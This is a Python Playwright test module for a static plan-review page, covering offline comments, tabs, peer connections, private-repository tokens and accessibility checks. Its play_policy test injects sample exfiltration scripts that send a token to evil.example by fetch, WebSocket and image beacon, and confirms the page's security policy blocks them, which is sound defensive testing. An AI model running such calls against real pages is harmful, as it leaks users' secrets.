"""What the static page does, in a browser.

A part of `page_plays.py`.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path

from axe_checks import violations
from page_stage import PLAN, PageStage, git, served
from page_visit import (
    Found,
    Play,
    annotations,
    badge,
    comment,
    give_name,
    invite,
    looks,
    notices,
    review,
    text_in,
    thread,
    trouble,
    until,
)
from playwright.sync_api import Page, expect

from peerplan_jupyter.plan.operations import CreatePlan, parse_operation
from peerplan_jupyter.review.workspace import Workspace

sys.path.append(str(Path(__file__).parents[1]))
from support.github import GitHub, serving

HOLD = """{
  const { send } = RTCDataChannel.prototype;
  const held = [];
  RTCDataChannel.prototype.send = function (data) {
    if (globalThis.holding && typeof data !== "string") held.push([this, data.slice()]);
    else send.call(this, data);
  };
  globalThis.release = () => {
    globalThis.holding = false;
    for (const [channel, data] of held) send.call(channel, data);
    return held.length;
  };
}"""


def play_alone(play: Play) -> Found:
    """Nobody is there: read, comment without a network, load the page again."""
    watched = play.watched()
    page = watched.page(play.link)
    expect(thread(page, "Why 30?")).to_be_visible()
    expect(page.locator(".evidence-mark.verified")).to_have_count(6)
    play.picture(page, "alone")
    expect(page.locator(".chip.you")).to_have_text("Your name")
    watched.context.set_offline(True)
    comment(page, "Written without anybody")
    asked = notices(page)
    give_name(page, "Robin")
    expect(page.locator(".chip.unsent")).to_have_text("1 unsent")
    watched.context.set_offline(False)
    page.reload()
    expect(thread(page, "Written without anybody")).to_be_visible()
    expect(page.locator(".chip.unsent")).to_have_text("1 unsent")
    author = thread(page, "Written without anybody").inner_text()
    said = badge(page).inner_text()
    play.picture(page, "kept")
    watched.context.close()
    return {"asked": asked, "author": author, "badge": said, "faults": watched.faults}


def play_tabs(play: Play) -> Found:
    """Two pages of one browser: each sees what the other writes, and both are one person."""
    watched = play.watched()
    one, two = watched.page(play.link), watched.page(play.link)
    for page in (one, two):
        expect(thread(page, "Why 30?")).to_be_visible()
        expect(page.locator(".chip.you")).to_be_visible()
    comment(one, "From the first page")
    give_name(one, "Robin")
    expect(thread(two, "From the first page")).to_be_visible()
    two.reload()
    comment(two, "From the second page")
    expect(thread(one, "From the second page")).to_be_visible()
    expect(one.locator(".chip.unsent")).to_have_text("2 unsent")
    watched.context.close()
    return {"faults": watched.faults}


def play_meeting(play: Play) -> Found:
    """Comment while nobody is there; then the owner's Python comes, and both see each other."""
    server = play.rooms
    play.stage.build(play.raw, "--server", server)
    watched = play.watched(server)
    with Workspace(play.stage.home) as workspace:
        link = invite(workspace, play, server)
        workspace.run(workspace.meetings.leave(PLAN))
        page = watched.page(link)
        expect(badge(page)).to_have_text("alone")
        comment(page, "Written before you came")
        give_name(page, "Rita")
        expect(page.locator(".chip.unsent")).to_have_text("1 unsent")
        room = workspace.inviting.rooms.get(PLAN)
        assert room
        workspace.run(workspace.meetings.enter(workspace.inviting.standing(room)))
        came = until(lambda: "Written before you came" in annotations(workspace))
        owner = workspace.actor("human", "Olga")
        fields = {"op": "annotate", "type": "concern", "content": "I am here"}
        fields |= {"target": {"type": "plan"}}
        workspace.run(workspace.submit(PLAN, parse_operation(fields, owner)))
        expect(thread(page, "I am here")).to_be_visible()
        expect(page.locator(".chip.unsent")).to_have_count(0)
        said = badge(page).inner_text()
        there = page.locator(".present").inner_text()
        play.picture(page, "live")
    watched.context.close()
    return {"came": came, "badge": said, "there": there, "faults": watched.faults}


def play_unpublished(play: Play) -> Found:
    """A plan that only its owner has: the page gets it, and its evidence, from the owner."""
    plan = "fresh"
    server = play.rooms
    play.stage.build(play.raw, "--server", server)
    with Workspace(play.stage.home) as workspace:
        agent, who = workspace.actor("agent", "builder"), workspace.identity("human")
        made = CreatePlan(actor=agent, plan_id=plan, title="Fresh", content="# Only here\n")
        workspace.run(workspace.create(made))
        log = b"one line\n"
        workspace.run(workspace.attach(plan, agent, log, name="run.log", caption="It ran"))
        inviting = workspace.inviting
        issued = workspace.run(inviting.invite(plan, who, "Olga", servers=[server]))
        room = inviting.rooms.get(plan)
        assert room
        workspace.run(workspace.meetings.enter(inviting.standing(room)))
        watched = play.watched(server)
        fragment = issued.url.partition("#")[2]
        page = watched.page(f"{play.site}/plan?repo={play.raw}/acme/rocket&plan={plan}#{fragment}")
        expect(page.get_by_role("heading", name="Only here")).to_be_visible()
        expect(page.locator(".evidence-mark.verified")).to_have_count(1)
        page.get_by_role("button", name="Open run.log").click()
        expect(page.get_by_text("one line")).to_be_visible()
        said = notices(page)
        page.reload()
        expect(page.get_by_role("heading", name="Only here")).to_be_visible()
        watched.context.close()
    return {"said": said, "faults": watched.faults}


def play_by_hand(play: Play) -> Found:
    """Two browsers without any server, introduced by two texts; one gives a name only then."""
    play.stage.build(play.raw)
    with Workspace(play.stage.home) as workspace:
        who = workspace.identity("human")
        invited = workspace.inviting.invite(PLAN, who, "Olga", servers=["ws://127.0.0.1:9"])
        link = f"{play.link}#{workspace.run(invited).url.partition('#')[2]}"
    one, two = play.watched(), play.watched()
    one.context.add_init_script(HOLD)
    first, second = one.page(link), two.page(link)
    first.locator(".chip.you").click()
    first.get_by_role("textbox", name="Your name").fill("Ada")
    first.get_by_role("textbox", name="Your name").press("Enter")
    for page in (first, second):
        page.locator(".chip.you").click()
    first.get_by_role("button", name="Begin", exact=True).click()
    second.get_by_role("button", name="I was given a text").click()
    second.get_by_label("Text that you were given").fill(text_in(first, "Send this text"))
    second.get_by_role("button", name="Connect").click()
    first.get_by_label("Text that came back").fill(text_in(second, "Send this text back"))
    first.get_by_role("button", name="Connect").click()
    for page in (first, second):
        expect(page.get_by_text("You are connected.")).to_be_visible()
        page.keyboard.press("Escape")
    comment(first, "By hand")
    expect(thread(second, "By hand")).to_be_visible()
    first.evaluate("globalThis.holding = true")
    comment(first, "Ahead of its change")
    expect(thread(second, "Ahead of its change")).to_be_visible()
    held = first.evaluate("release()")
    comment(second, "And named after it")
    give_name(second, "Bob")
    expect(thread(first, "And named after it")).to_be_visible()
    said = badge(second).inner_text()
    second.reload()
    expect(thread(second, "Ahead of its change")).to_be_visible()
    ahead = review(second).locator(".thread", has_text="Ahead of its change").count()
    for watched in (one, two):
        watched.context.close()
    return {"badge": said, "held": held, "ahead": ahead, "faults": one.faults + two.faults}


def play_copies(play: Play) -> Found:
    """A site that has the plans itself; what is written there goes by a file to the owner."""
    stage, target = play.stage, play.stage.folder / "copies"
    stage.command("site", "build", str(target), "--from-branch", "--repo", "https://github.com/a/b")
    with served(target) as address:
        watched = play.watched(address)
        page = watched.page(f"{address}/")
        page.get_by_role("link", name="Move sessions to Redis").click()
        expect(page.locator(".evidence-mark.verified")).to_have_count(6)
        said = badge(page)
        said.click()
        published = page.locator(".connection .popover").inner_text()
        page.keyboard.press("Escape")
        comment(page, "By a file")
        give_name(page, "Rita")
        page.locator(".chip.unsent").click()
        with page.expect_download() as saving:
            page.get_by_role("button", name="Save as a file").click()
        expect(page.get_by_text("peerplan import")).to_be_visible()
        saved = stage.folder / saving.value.suggested_filename
        saving.value.save_as(saved)
        watched.context.close()
    stage.command("import", str(saved))
    with Workspace(stage.home) as workspace:
        there = "By a file" in annotations(workspace)
    return {"published": published, "there": there, "faults": watched.faults}


def play_policy(play: Play) -> Found:
    """What a script that got into the page could not do."""
    watched = play.watched()
    page = watched.page(play.link)
    expect(thread(page, "Why 30?")).to_be_visible()
    tries = {
        "fetch": "fetch('https://evil.example/?token=t')",
        "other repository": f"fetch('{play.raw.replace('127.0.0.1', 'localhost')}/evil')",
        "socket": "new Promise((done, fail) => { const one = new WebSocket('wss://evil.example');"
        " one.onopen = done; one.onerror = fail; })",
        "picture": "new Promise((done, fail) => { const one = new Image(); one.onload = done;"
        " one.onerror = fail; one.src = 'https://evil.example/t.png'; })",
        "inline": "new Promise((done, fail) => { const one = document.createElement('script');"
        " one.textContent = 'globalThis.ran = true'; document.head.append(one);"
        " globalThis.ran ? done() : fail(); })",
    }
    blocked = {
        name: page.evaluate(f"({script}).then(() => false, () => true)")
        for name, script in tries.items()
    }
    breaches = sum(fault.startswith("VIOLATION") for fault in watched.faults)
    watched.context.close()
    return {"blocked": blocked, "violations": breaches, "faults": []}


def play_private(play: Play) -> Found:
    """A private repository: a token is asked for, reads the plan, and writes to its branch."""
    stage, site = play.stage, play.stage.folder / "private"
    github = GitHub(stage.remote, "read-only-token", "writing-token")
    with serving(github) as api, served(site) as address, Workspace(stage.home) as workspace:
        stage.build_private(site, api, play.raw)
        watched = play.watched(api, address)
        page = watched.page(f"{address}/plan?pr=7&plan={PLAN}")
        told = trouble(page)
        play.picture(page, "private")
        page.get_by_role("button", name="Give a token").click()
        expect(page.get_by_label("Token for")).to_be_focused()
        page.keyboard.type("read-only-token")
        page.keyboard.press("Enter")
        expect(thread(page, "Why 30?")).to_be_visible()
        comment(page, "Written with a token")
        give_name(page, "Rita")
        refused = send(page)
        page.locator(".chip.you").click()
        page.get_by_role("button", name="Remove", exact=True).click()
        page.get_by_label("Token for").fill("writing-token")
        page.get_by_label("Token for").press("Enter")
        expect(page.get_by_text("On this page until it is closed")).to_be_visible()
        page.keyboard.press("Escape")
        others = [workspace]
        github.before_move = lambda: publish_another(others.pop()) if others else None
        before = github.line("rev-parse", "plan-artifacts")
        send(page)
        expect(page.locator(".chip.unsent")).to_have_count(0)
        expect(thread(page, "Somebody was faster")).to_be_visible()
        workspace.run(workspace.publisher.publish(PLAN))
        watched.context.close()
    history = github.line("log", "--format=%an", f"{before}..plan-artifacts").splitlines()
    sent = {auth for _, _, auth in github.asked}
    return {
        "told": told, "refused": refused, "history": history, "sent": sorted(sent),
        "there": annotations_on_branch(stage), "faults": watched.faults,
    }  # fmt: skip


def send(page: Page) -> str:
    """Send to the plan branch; what the page says then."""
    page.locator(".chip.unsent").click()
    page.get_by_role("button", name="Send to the plan branch").click()
    expect(page.get_by_role("button", name="Sending")).to_have_count(0)
    page.wait_for_timeout(300)
    said = notices(page)
    page.keyboard.press("Escape")
    return said


def publish_another(workspace: Workspace) -> None:
    """Somebody else writes to the branch in between."""
    actor = workspace.actor("human", "Olga")
    fields = {"op": "annotate", "type": "concern", "content": "Somebody was faster"}
    fields |= {"target": {"type": "plan"}}
    workspace.run(workspace.submit(PLAN, parse_operation(fields, actor)))
    workspace.run(workspace.publisher.publish(PLAN))


def annotations_on_branch(stage: PageStage) -> list[str]:
    data = git(stage.remote, "show", f"plan-artifacts:pr-7/plan-{PLAN}/plan.json")
    return [one["content"] for one in json.loads(data)["plan"]["annotations"]]


def play_sights(play: Play) -> Found:
    """Light and dark, wide and narrow; the page around the review, and what axe finds in it."""
    axe: Found = {}
    watched = play.watched(viewport={"width": 1280, "height": 800})
    page = watched.page(play.link)
    expect(page.get_by_role("heading", name="What could go wrong")).to_be_attached()
    expect(page.locator(".evidence-mark.verified")).to_have_count(6)
    comment(page, "A thought")
    expect(page.locator(".notice")).to_be_visible()
    look(play, page, "name", axe)
    give_name(page, "Robin Carter")
    page.locator(".chip.unsent").click()
    look(play, page, "unsent", axe)
    page.keyboard.press("Escape")
    page.locator(".chip.you").click()
    expect(page.get_by_role("dialog", name="You")).to_be_visible()
    look(play, page, "you", axe)
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog", name="You")).to_be_hidden()
    watched.context.close()
    return {"axe": axe, "faults": watched.faults}


def look(play: Play, page: Page, step: str, axe: Found) -> None:
    """The step in each look."""
    for name in looks(page):
        play.picture(page, f"{name}-{step}")
        axe[f"{name} {step}"] = violations(page)


PLAYS: dict[str, Callable[[Play], Found]] = {
    "alone": play_alone,
    "tabs": play_tabs,
    "meeting": play_meeting,
    "unpublished": play_unpublished,
    "by hand": play_by_hand,
    "copies": play_copies,
    "policy": play_policy,
    "private": play_private,
    "sights": play_sights,
}
